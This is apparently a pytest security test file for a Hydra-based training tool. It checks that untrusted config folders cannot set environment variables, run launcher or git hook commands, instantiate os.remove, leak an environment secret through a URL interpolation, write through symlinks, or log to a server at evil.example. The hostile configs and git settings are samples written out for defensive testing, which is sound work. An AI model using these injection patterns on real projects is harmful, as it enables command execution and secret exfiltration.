"""A config is data: what comes from a folder or a file picks among what is offered, and no more."""

import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from priced.check import Refused
from priced.compose import compose, read_request
from priced.sweep.launcher import Launcher
from priced.sweep.start import plan_sweep
from tests.conftest import QUICK, ROOT, Priced

HOSTILE = """\
# @package _global_
defaults:
  - override /hydra/job_logging: none
  - _self_
hydra:
  job:
    env_set: {PRICED_ALLOW: os, GIT_CONFIG_COUNT: "1"}
  run:
    dir: elsewhere
  output_subdir: elsewhere
  job_logging:
    handlers: {file: {class: logging.FileHandler, filename: elsewhere.log}}
  sweeper:
    params: {seed: "1,2"}
  launcher:
    setup: [touch elsewhere]
max_epochs: 1
"""


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """Return a folder of options that somebody else wrote."""
    folder = tmp_path / "own"
    (folder / "experiment").mkdir(parents=True)
    (folder / "experiment" / "hostile.yaml").write_text(HOSTILE)
    return folder


def test_an_experiment_reaches_nothing_of_hydras_own(
    own: Path, tmp_path: Path, priced: Priced
) -> None:
    before = dict(os.environ)
    words = ("--config-dir", str(own), "experiment=hostile", *QUICK[1:])
    assert priced("train", *words) in (0, 2)
    assert {key: value for key, value in os.environ.items() if key not in before} == {}
    assert "PRICED_ALLOW" not in os.environ
    assert not list(tmp_path.glob("elsewhere*"))


def test_a_kept_configs_own_defaults_are_not_followed(
    tmp_path: Path, priced: Priced, run_folders: object
) -> None:
    assert priced("train", *QUICK, "max_epochs=1") == 0
    [file] = tmp_path.glob("logs/runs/*/*/config.yaml")
    kept = OmegaConf.to_container(OmegaConf.load(file), resolve=False)
    assert isinstance(kept, dict)
    kept["defaults"] = ["_self_", {"override hydra/job_logging": "none"}, {"tariff": "aws_p5"}]
    kept["hydra"] = {"job": {"env_set": {"PRICED_ALLOW": "os"}}}
    kept["model"]["defaults"] = [{"/tariff": "aws_p5"}]
    file.write_text(OmegaConf.to_yaml(OmegaConf.create(kept)))
    config = compose(f"run={file.parent}", "stages=[test]")
    assert config.tariff.name == "local"
    assert "hydra" not in config.tree
    assert "PRICED_ALLOW" not in os.environ


def test_a_launcher_takes_its_settings_from_the_command_line_alone(own: Path) -> None:
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher", reason="no priced[submitit]")
    (own / "hydra" / "launcher").mkdir(parents=True)
    (own / "model").mkdir()
    (own / "model" / "mine.yaml").write_text(
        "# @package _global_\nmodel: {_target_: priced.model.logistic.Logistic}\n"
        "hydra: {launcher: {setup: [touch elsewhere]}}\n"
    )
    words = ["-m", "--config-dir", str(own), "seed=1,2", "hydra/launcher=submitit_slurm"]
    request = read_request([*words, "hydra.launcher.timeout_min=7", "logger=none"])
    plan = plan_sweep(request)
    launcher = Launcher(plan, request)
    assert launcher.config.hydra.launcher.timeout_min == 7
    assert not launcher.config.hydra.launcher.setup


@pytest.mark.parametrize(
    "target",
    [
        "${oc.select:data.num_outputs,priced.model.mlp.MLP}",
        "priced.model.library.library",
        "torch.nn.utils.parametrize.register_parametrization",
        "torch.optim.lr_scheduler.LambdaLR",
    ],
)
def test_a_class_is_named_and_stays_the_one_that_was_checked(target: str) -> None:
    with pytest.raises(Refused, match="_target_ must"):
        compose(f"model._target_='{target}'")


def test_what_is_built_is_held_again_as_it_is_by_then(tmp_path: Path) -> None:
    """An interpolation that says something else once the data is read."""
    from priced.build.make import make

    victim = tmp_path / "victim"
    victim.touch()
    tree = OmegaConf.create({"data": {"n": "torch.nn.ReLU"}, "model": {"_target_": "${data.n}"}})
    assert make(tree.model, "model").__class__.__name__ == "ReLU"
    tree.data.n = "os.remove"
    with pytest.raises(ValueError, match=r"must be on the whitelist, got os\.remove"):
        make(tree.model, "model")
    assert victim.exists()


@pytest.mark.parametrize("place", ["option", "kept"])
def test_a_file_of_somebody_elses_reads_no_variable(
    own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, priced: Priced, place: str
) -> None:
    monkeypatch.setenv("CLOUD_SECRET", "hunter2hunter2")
    text = "http://x/${oc.env:CLOUD_SECRET}"
    words = ["--config-dir", str(own), "experiment=leak"]
    if place == "option":
        leak = f'# @package _global_\ntags: ["{text}"]\n'
        (own / "experiment" / "leak.yaml").write_text(leak)
    else:
        assert priced("train", *QUICK, "max_epochs=1") == 0
        [file] = tmp_path.glob("logs/runs/*/*/config.yaml")
        kept = OmegaConf.load(file)
        kept.tags = [text]
        file.write_text(OmegaConf.to_yaml(kept))
        words = [f"run={file.parent}"]
    with pytest.raises(Refused, match=r"CLOUD_SECRET, which only your own words"):
        read_request(words).compose()
    typed = read_request([*words, f"tags=['{text}']"]).compose()
    assert typed.tags == ("http://x/hunter2hunter2",)


def test_nothing_is_written_through_a_link(priced: Priced, tmp_path: Path) -> None:
    assert priced("train", *QUICK, "max_epochs=1") == 0
    [folder] = tmp_path.glob("logs/runs/*/*")
    victim = tmp_path / "victim"
    victim.write_text("mine")
    (folder / "scores.json").unlink()
    (folder / "scores.json").symlink_to(victim)
    assert priced("train", f"run={folder}", "stages=[test]") == 2
    assert victim.read_text() == "mine"


def test_a_module_that_lies_about_is_not_imported_by_the_board(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    (tmp_path / "grpc.py").write_text("open('ran', 'w').close()\n")
    (tmp_path / "tensorboard.py").write_text("open('ran', 'w').close()\n")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = str(free.getsockname()[1])
    command = [sys.executable, "-P", "-m", "priced", "board", "logs", "--port", port]
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    with subprocess.Popen(command, cwd=tmp_path, env=env, stderr=subprocess.PIPE) as process:
        try:
            process.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()
    assert not (tmp_path / "ran").exists()


def test_git_runs_no_command_of_the_folder_that_it_looks_at(priced: Priced, tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / ".gitattributes").write_text("* filter=x\n")
    for key in ("core.fsmonitor", "filter.x.clean"):
        subprocess.run(["git", "config", key, "touch ran; cat"], cwd=tmp_path, check=True)
    assert priced("train", *QUICK, "max_epochs=1") == 0
    assert not (tmp_path / "ran").exists()


def test_a_server_to_log_to_is_named_by_the_user_alone(own: Path) -> None:
    (own / "logger").mkdir()
    (own / "logger" / "mine.yaml").write_text(
        "mine:\n  _target_: lightning.pytorch.loggers.MLFlowLogger\n"
        "  tracking_uri: http://evil.example/x\n"
    )
    words = ["--config-dir", str(own), "logger=mine"]
    message = r"logger\.mine\.tracking_uri names a server"
    with pytest.raises(Refused, match=message):
        read_request(words).compose()
    with pytest.raises(ValueError, match=message):
        plan_sweep(read_request(["-m", *words, "seed=1,2"]))
    typed = read_request([*words, "logger.mine.tracking_uri=http://mine.example/y"]).compose()
    assert typed.logger is not None
